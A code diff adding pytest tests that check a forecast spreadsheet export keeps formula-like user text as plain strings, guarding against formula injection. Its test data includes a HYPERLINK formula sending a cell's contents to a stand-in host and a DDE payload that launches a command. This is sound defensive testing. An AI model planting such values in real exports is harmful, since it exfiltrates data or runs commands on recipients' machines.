@@ -253,3 +253,50 @@ def test_queries_do_not_grow_with_rows(people):
     assert (small_rows, large_rows) == (3, 30)
     assert large == small, f"{small} queries for 3 rows, {large} for 30"
     assert large <= 15
+
+
+# A deal, account or next step written by anyone must reach the spreadsheet as the text
+# it is, never as a live formula (issue 15: "=HYPERLINK(...)" became a link).
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"Open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\tTab first", "\rCarriage return first", "#N/A"]
+
+
+def _cells(workbook):
+    return [cell for row in workbook["Forecast"].iter_rows(min_row=2) for cell in row]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_texts_that_look_like_formulas_stay_text(people, text):
+    territory = TerritoryFactory(name=text)
+    account = AccountFactory(name=text, owner=people.rep_a, territory=territory)
+    deal = _deal(people, account, "7", "3000", name=text)
+    type(deal).objects.filter(pk=deal.pk).update(next_step=text)
+    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
+    by_header = dict(zip(HEADERS_EN, next(workbook["Forecast"].iter_rows(min_row=2)),
+                         strict=True))
+    for header in ("Territory", "Account", "Opportunity", "Next step"):
+        cell = by_header[header]
+        # Shown as entered (XML reads a carriage return back as a line feed).
+        assert cell.value == text.replace("\r", "\n"), header
+        assert cell.data_type == "s", header  # a string, not a formula ("f") or error
+        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r")), header
+    assert not [c.coordinate for c in _cells(workbook) if c.data_type == "f"]
+
+
+def test_a_named_rep_or_node_that_looks_like_a_formula_stays_text(people):
+    people.rep_a.first_name, people.rep_a.last_name = "=1+1", ""
+    people.rep_a.save()
+    account = AccountFactory(owner=people.rep_a)
+    _deal(people, account, "7", "3000")
+    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert "=1+1" in [c.value for c in cells]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+
+
+def test_control_characters_a_spreadsheet_cannot_hold_are_left_out(people):
+    account = AccountFactory(name="Gamma\x0bInsurance", owner=people.rep_a)
+    _deal(people, account, "7", "3000", name="Deal\x1b one")
+    _count, workbook = _export(people.manager_a, Node("user", people.manager_a))
+    values = [c.value for c in _cells(workbook)]
+    assert "GammaInsurance" in values and "Deal one" in values
